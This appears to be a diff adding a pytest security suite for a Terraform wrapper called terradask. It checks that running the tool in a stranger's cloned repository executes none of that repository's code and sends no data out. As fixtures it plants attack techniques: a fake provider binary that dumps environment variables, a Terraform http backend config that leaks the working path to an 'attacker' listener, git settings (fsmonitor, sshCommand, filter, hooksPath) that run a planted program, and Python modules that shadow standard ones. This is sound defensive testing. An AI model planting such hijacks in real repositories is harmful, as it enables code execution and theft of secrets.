@@ -1,0 +1,384 @@
+"""A stranger's repository is cloned, and terradask is run in it: nothing of the repository runs,
+and nothing is sent, before the user was asked.
+"""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import subprocess
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+
+import pytest
+
+from terradask._jobs.files import find_files
+from terradask._network.host_packages import BootLock, download
+from terradask._plans.commit import commit_of
+from terradask._software.conda_solver import CondaSolver
+from terradask._terraform.folder_contents import CONFIGURATION, LOCK_FILE
+from terradask._terraform.init_stamp import init_key
+from terradask._terraform.provider_mirror import PROVIDER_VERSION, this_platform
+from terradask.errors import HostPackagesUnavailable
+from terradask_simulator import Simulator
+
+from ..command import in_this_process
+from ..quick_provider import QuickProvider, package_hash, write_lock
+from ..shared_simulator import QuickSimulator
+
+pytestmark = [pytest.mark.simulator]
+
+ROOT = Path(__file__).parents[2]
+
+NETWORK = "cdktf.out/stacks/network"
+SETTINGS = """
+[network]
+cidr = "{cidr}"
+zones = ["us-east-1a"]
+nat = "none"
+public_workers = true
+"""
+
+
+@dataclass
+class Listener:
+    """A server of the attacker's: what is sent to it."""
+
+    url: str = ""
+    received: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    found = Listener()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            found.received.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        do_POST = do_PUT = do_HEAD = do_GET  # noqa: N815
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    with HTTPServer(("127.0.0.1", 0), Handler) as server:
+        found.url = f"http://127.0.0.1:{server.server_address[1]}"
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield found
+        server.shutdown()
+        thread.join()
+
+
+@pytest.fixture(scope="module")
+def aws(quick_provider: QuickProvider) -> Iterator[Simulator]:
+    """An embedded AWS without hosts."""
+    with QuickSimulator.start(boot_hosts=False) as simulator:
+        simulator.provider = quick_provider
+        yield simulator
+
+
+@dataclass(frozen=True)
+class Clone:
+    """A cloned repository, and what would show that something of it ran."""
+
+    folder: Path
+    marker: Path
+    url: str
+    environ: dict[str, str]
+
+    def plant(self, path: str, text: str, *, program: bool = False) -> Path:
+        file = self.folder / path
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+        file.chmod(0o755 if program else 0o644)
+        return file
+
+    def program(self, path: str) -> Path:
+        """Plant a program that leaves the marker, with the caller's variables in it."""
+        return self.plant(path, f"#!/bin/sh\nenv > '{self.marker}'\nexit 1\n", program=True)
+
+    def module(self, path: str) -> Path:
+        """Plant a module of Python's that leaves the marker."""
+        return self.plant(path, f"open({str(self.marker)!r}, 'w').write(__file__)\n")
+
+    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
+        return in_this_process(*arguments, environ=self.environ, folder=self.folder)
+
+    @property
+    def untouched(self) -> bool:
+        return not self.marker.exists()
+
+
+@pytest.fixture
+def clone(aws: Simulator, listener: Listener, tmp_path: Path) -> Iterator[Clone]:
+    folder = tmp_path / "repository"
+    folder.mkdir()
+    (folder / "terradask.toml").write_text(SETTINGS.format(cidr=aws.vpc_cidr))
+    environ = dict(aws.environ)
+    # As users have it: what belongs to the repository lies in it.
+    environ.pop("TERRADASK_STATE_DIR")
+    yield Clone(folder, tmp_path / "ran", listener.url, environ)
+    assert listener.received == []
+
+
+def _sends(clone: Clone) -> str:
+    """Return a configuration that sends a file away while it is planned, with what is built into
+    Terraform alone.
+    """
+    return json.dumps(
+        {
+            "data": {
+                "terraform_remote_state": {
+                    "sent": {
+                        "backend": "http",
+                        "config": {"address": f"{clone.url}/${{urlencode(path.cwd)}}"},
+                    }
+                }
+            }
+        }
+    )
+
+
+def _plant_provider(clone: Clone) -> None:
+    """Plant a provider that Terraform would take for the one of the lock file, installed."""
+    below = f"registry.terraform.io/hashicorp/aws/{PROVIDER_VERSION}/{this_platform()}"
+    name = f"terraform-provider-aws_v{PROVIDER_VERSION}_x5"
+    package = clone.program(f"{NETWORK}/.terraform/providers/{below}/{name}")
+    for folder in ("", f"{NETWORK}/"):
+        write_lock(clone.folder / folder / LOCK_FILE, package)
+    assert package_hash(package) in (clone.folder / LOCK_FILE).read_text()
+
+
+def test_a_provider_of_the_repositorys_is_not_run(clone: Clone) -> None:
+    _plant_provider(clone)
+    done = clone.run("plan", "network", "--json")
+    assert clone.untouched, clone.marker.read_text()
+    # The user's own is there, and is put in its place.
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["counts"]["create"] > 20
+
+
+def test_what_the_repository_says_of_an_earlier_init_counts_for_nothing(
+    clone: Clone, tmp_path: Path
+) -> None:
+    # A real one: its state has to be where the settings say, whatever the repository remembers.
+    assert clone.run("plan", "network").returncode == 0
+    data = clone.folder / NETWORK / ".terraform"
+    record = json.loads((data / "terraform.tfstate").read_text())
+    elsewhere = tmp_path / "elsewhere.tfstate"
+    record["backend"]["config"]["path"] = str(elsewhere)
+    (data / "terraform.tfstate").write_text(json.dumps(record))
+    (data / "environment").write_text("theirs")
+    clone.plant(f"{NETWORK}/.terraform/modules/modules.json", "{}")
+    configuration = json.loads((clone.folder / NETWORK / CONFIGURATION).read_text())
+    assert json.loads((data / "terradask.json").read_text())["key"] == init_key(
+        configuration,
+        lock_file=clone.folder / NETWORK / LOCK_FILE,
+        cli_config=Path(clone.environ["TF_CLI_CONFIG_FILE"]),
+        terraform_version="1.11.4",
+    )
+    done = clone.run("apply", "network", "--yes")
+    try:
+        assert done.returncode == 0, done.stderr
+        assert (clone.folder / ".terradask/state/network.tfstate").is_file()
+        assert not elsewhere.exists()
+        assert sorted(path.name for path in data.iterdir()) == [
+            "providers",
+            "terradask.json",
+            "terraform.tfstate",
+        ]
+    finally:
+        assert clone.run("destroy", "network", "--yes").returncode == 0
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "extra.tf.json",
+        "override.tf.json",
+        "cdk_override.tf.json",
+        "terraform.tfvars",
+        "x.auto.tfvars",
+        "extra.tofu",
+        "terraform.d/plugins/x",
+    ],
+)
+def test_a_file_that_terraform_would_load_is_refused_by_name(clone: Clone, name: str) -> None:
+    clone.plant(f"{NETWORK}/{name}", _sends(clone))
+    done = clone.run("plan", "network")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "files that terradask didn't write" in done.stderr
+    assert name.partition("/")[0] in done.stderr
+
+
+def test_what_is_loaded_nowhere_stays(clone: Clone) -> None:
+    kept = ["errored.tfstate", "crash.log", ".extra.tf", "extra.tf~"]
+    for name in kept:
+        clone.plant(f"{NETWORK}/{name}", "resource x y {")
+    done = clone.run("plan", "network")
+    assert done.returncode == 0, done.stderr
+    assert all((clone.folder / NETWORK / name).is_file() for name in kept)
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "cdktf.out",
+        "cdktf.out/stacks",
+        NETWORK,
+        f"{NETWORK}/host",
+        f"{NETWORK}/.terraform",
+        ".terradask",
+        ".terradask/state",
+        ".terradask/plans",
+    ],
+)
+def test_no_link_leads_what_is_written_elsewhere(clone: Clone, place: str, tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    link = clone.folder / place
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(home)
+    done = clone.run("plan", "network")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert f"{place}" in done.stderr
+    assert "a symbolic link" in done.stderr
+    assert list(home.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "cdktf.out/.gitignore",
+        "cdktf.out/stacks/.network.lock",
+        f"{NETWORK}/{CONFIGURATION}",
+        ".terradask/.gitignore",
+        ".terradask/state/network.tfstate",
+    ],
+)
+def test_no_linked_file_is_overwritten(clone: Clone, place: str, tmp_path: Path) -> None:
+    mine = tmp_path / "mine"
+    mine.write_text("mine")
+    link = clone.folder / place
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(mine)
+    done = clone.run("plan", "network")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert mine.read_text() == "mine"
+
+
+def _git(folder: Path, *arguments: str) -> None:
+    identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
+    subprocess.run(["git", "-C", str(folder), *identity, *arguments], check=True)
+
+
+@pytest.fixture
+def git_clone(tmp_path: Path) -> Clone:
+    """A folder that brings along its ``.git``, as an unpacked archive does."""
+    clone = Clone(tmp_path / "archive", tmp_path / "ran", "", {})
+    clone.plant("terradask.toml", "")
+    clone.plant("tracked.txt", "one")
+    clone.plant(".gitattributes", "*.txt filter=theirs diff=theirs\n")
+    _git(clone.folder, "init", "-q")
+    _git(clone.folder, "add", ".")
+    _git(clone.folder, "commit", "-q", "-m", "x")
+    program = clone.program("bin/theirs")
+    for setting in (
+        "core.fsmonitor",
+        "core.pager",
+        "core.sshCommand",
+        "diff.external",
+        "diff.theirs.command",
+        "diff.theirs.textconv",
+        "filter.theirs.clean",
+        "filter.theirs.process",
+        "filter.theirs.smudge",
+    ):
+        _git(clone.folder, "config", setting, str(program))
+    _git(clone.folder, "config", "filter.theirs.required", "true")
+    _git(clone.folder, "config", "core.hooksPath", str(program.parent))
+    clone.program("bin/post-index-change")
+    clone.plant("tracked.txt", "two")
+    clone.marker.unlink(missing_ok=True)
+    return clone
+
+
+def test_git_runs_no_program_that_the_repository_names(git_clone: Clone) -> None:
+    commit = commit_of(git_clone.folder)
+    assert commit is not None
+    assert commit.endswith("-dirty")
+    found = find_files([], git_clone.folder)
+    assert {"tracked.txt", "terradask.toml", ".gitattributes"} <= found.keys()
+    assert git_clone.untouched, git_clone.marker.read_text()
+    # They would run: each of git's own calls does.
+    subprocess.run(
+        ["git", "-C", str(git_clone.folder), "describe", "--always", "--dirty"],
+        check=False,
+        capture_output=True,
+    )
+    assert not git_clone.untouched
+
+
+MODULES = ("pip.py", "json.py", "subprocess.py", "sitecustomize.py", "rattler.py", "email.py")
+
+
+def test_no_module_of_the_working_directory_is_taken_for_one_of_pythons(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    clone = Clone(tmp_path / "repository", tmp_path / "ran", "", {})
+    for name in MODULES:
+        clone.module(name)
+    monkeypatch.chdir(clone.folder)
+    # No index answers there.
+    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
+    monkeypatch.setenv("PIP_RETRIES", "0")
+    with pytest.raises(HostPackagesUnavailable):
+        download(
+            BootLock(b"jmespath==1.0.1 --hash=sha256:" + b"0" * 64), tmp_path / "packages", "x86_64"
+        )
+    assert clone.untouched, clone.marker.read_text()
+    pytest.importorskip("rattler")
+    solver = CondaSolver(tmp_path / "environment.yml", (), "x86_64", os.environ)
+    assert solver.distributions([]) == {}
+    assert clone.untouched, clone.marker.read_text()
+
+
+def test_no_program_of_pythons_is_started_with_the_working_directory_on_its_path() -> None:
+    """In the client and the embedded AWS: a host's working directory has nothing of anybody's."""
+    wrong = [
+        f"{path.relative_to(ROOT)}:{node.lineno}"
+        for root in ("cluster", "simulator")
+        for path in sorted((ROOT / root).rglob("*.py"))
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.List | ast.Tuple) and _starts_unsafe_python(node)
+    ]
+    assert wrong == []
+
+
+def _starts_unsafe_python(node: ast.List | ast.Tuple) -> bool:
+    text = ast.unparse(node)
+    words = [each.value for each in ast.walk(node) if isinstance(each, ast.Constant)]
+    return "sys.executable" in text and "-m" in words and not {"-P", "-I"} & set(words)
+
+
+def test_a_locked_image_of_a_strangers_is_planned_by_no_command(clone: Clone) -> None:
+    assert clone.run("plan", "network", "--out", "plan").returncode == 0
+    lock = clone.folder / "terradask.lock.json"
+    document = json.loads(lock.read_text())
+    document["network"]["image_ids"]["x86_64"] = "ami-0123456789abcdef0"
+    lock.write_text(json.dumps(document))
+    for command in (("plan", "network"), ("plan",), ("apply", "--plan", "plan", "--yes")):
+        done = clone.run(*command)
+        assert done.returncode == 2, done.stdout + done.stderr
+        assert "the locked image isn't there" in done.stderr
+    # What is there can be removed all the same; synthesis asks nobody.
+    assert "the locked image" not in clone.run("destroy", "network", "--yes").stderr
+    assert clone.run("synth").returncode == 0
+    assert clone.run("plan", "network", "--refresh").returncode == 0
